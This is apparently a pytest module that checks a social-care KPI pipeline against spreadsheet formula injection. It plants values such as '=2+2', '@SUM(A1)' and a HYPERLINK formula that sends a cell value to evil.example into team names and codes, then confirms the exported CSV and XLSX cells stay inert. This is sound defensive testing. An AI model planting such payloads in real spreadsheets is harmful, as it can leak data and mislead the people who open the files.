"""Formula injection (OWASP CSV injection): no published or restricted CSV or XLSX cell that
carries text from an extract can be evaluated as a formula.

Values beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are planted in team
codes, team names, worker ids and free text of the worklists' golden extract (ingested and
staged as the pipeline does), in the team codes of the scrutiny figures and in the LA's name
(la.yaml) on the board report; every CSV cell is then read back as a spreadsheet would, and every
workbook's XML is searched for formula elements.
"""

import csv
import datetime as dt
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest

from pipelines.lib.publish import board, cells, figures, worklists
from tests.kpis.harness import run_kpis
from tests.publish import test_board, test_scrutiny, test_worklists

HYPERLINK = '=HYPERLINK("http://evil.example/?la="&B4,"Open case file")'
PLANTED = {
    "T1": "=2+2",
    "T2": "+T2",
    "T3": "@SUM(A1)",
    "W1": "-W1+A2",
    "Assessment Team": HYPERLINK,
    "Safeguarding Team": "\tSafeguarding",
    "Children in Care Team": "\rCare",
}


def _csv_field(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def _planted(text: str) -> str:
    for old, new in PLANTED.items():
        field = _csv_field(new)
        text = re.sub(rf"(?m)(?<![^,\n]){re.escape(old)}(?=,|$)", lambda _, f=field: f, text)
    return text


def dangerous(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: a formula lead that is not a plain number."""
    return cells.csv_text(cell) != cell


def assert_no_formula(paths: list[Path]) -> str:
    """Every CSV cell inert and no workbook with a formula; returns all text seen."""
    seen = []
    for path in paths:
        if path.suffix == ".csv":
            with path.open(encoding="utf-8", newline="") as handle:
                for row in csv.reader(handle):
                    for cell in row:
                        assert not dangerous(cell), f"{path.name}: {cell!r}"
                        seen.append(cell)
        elif path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as book:
                for name in book.namelist():
                    if name.endswith(".xml"):
                        xml = book.read(name).decode("utf-8")
                        assert "<f>" not in xml and "<f " not in xml, f"{path.name} {name}"
                        seen.append(xml)
    return "\n".join(seen)


def test_csv_text_escapes_formula_leads_but_not_numbers() -> None:
    for value in ("=2+2", "+44 1234", "-W1", "@SUM(A1)", "\tx", "\rx", "-", "-1+A1", HYPERLINK):
        assert cells.csv_text(value) == "'" + value
    for value in ("-3", "-1,234.5", "+2.5", "-0.4%", "-1e5", "T1", "Team -1", ""):
        assert cells.csv_text(value) == value


@pytest.fixture(scope="module")
def planted_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("injection")
    tables = {name: _planted(text) for name, text in test_worklists.TABLES.items()}
    run_kpis(tmp, tables, test_worklists.EXTRACT, ["unallocated_children"])
    return tmp / "csc.duckdb"


def test_worklists_write_text_never_formulas(planted_warehouse: Path, tmp_path: Path) -> None:
    with duckdb.connect(str(planted_warehouse), read_only=True) as con:
        paths = worklists.write_worklists(con, test_worklists.LA, test_worklists.E, tmp_path)
    text = assert_no_formula(paths)
    # The planted values did reach the files, as text: escaped in CSVs, strings in workbooks.
    for value in ("=2+2", "+T2", "@SUM(A1)", "-W1+A2"):
        assert "'" + value in text
    assert "'" + HYPERLINK in text  # the team name, in a team's CSVs
    assert 't>=HYPERLINK("http://evil.example/?la="&amp;B4' in text  # a cover sheet string


@pytest.fixture
def scrutiny_con(tmp_path: Path) -> duckdb.DuckDBPyConnection:
    con = test_scrutiny.con.__wrapped__(tmp_path)  # type: ignore[attr-defined]
    for old, new in (("T1", "=2+2"), ("T2", "@T2"), ("T3", "-T3")):
        con.execute(
            "update kpi.kpi_values_by_dimension set dimension_value = ? where dimension_value = ?",
            [new, old],
        )
    return con


def test_scrutiny_csvs_and_workbook(
    scrutiny_con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    paths = test_scrutiny._write(scrutiny_con, tmp_path)
    text = assert_no_formula(paths)
    for value in ("'=2+2", "'@T2", "'-T3"):
        assert value in text
    # Figures stay figures: T1's 12 referrals (test_scrutiny.BY_TEAM) is a plain number cell.
    with paths[1].open(encoding="utf-8", newline="") as handle:
        t1 = next(row for row in csv.DictReader(handle) if row["team"] == "'=2+2")
    assert "12" in t1.values()


@pytest.fixture
def board_con(tmp_path: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    yield from test_board.con.__wrapped__(tmp_path)  # type: ignore[attr-defined]


def test_board_workbook_writes_the_la_name_as_text(
    board_con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    provenance = figures.Provenance(
        test_board.LA,
        HYPERLINK,
        test_board.EXTRACT,
        "abcdef1234567890",
        "passed",
        dt.datetime(2024, 4, 2, 9, 30),
    )
    paths = board.write_board_report(
        board_con,
        test_board.LA,
        test_board.EXTRACT,
        test_board.DEFINITIONS,
        test_board.PLANS,
        tmp_path,
        provenance,
    )
    text = assert_no_formula([p for p in paths if p.suffix == ".xlsx"])
    assert "=HYPERLINK(" in text


def test_table_export_escapes_extract_text(planted_warehouse: Path, tmp_path: Path) -> None:
    """`csc-kpis export <table> --format csv` writes staged extract text: a team name such as
    ``=HYPERLINK(...)`` comes out inert, dates keep their plain layout."""
    from pipelines import cli

    data = tmp_path / "data"
    (data / "warehouse").mkdir(parents=True)
    (data / "warehouse" / "csc.duckdb").write_bytes(planted_warehouse.read_bytes())
    out = tmp_path / "teams.csv"
    args = ["export", "stg.ssd_department", "--format", "csv", "--out", str(out)]
    assert cli.main([*args, "--data-dir", str(data)]) == 0
    text = assert_no_formula([out])
    assert "'" + HYPERLINK in text
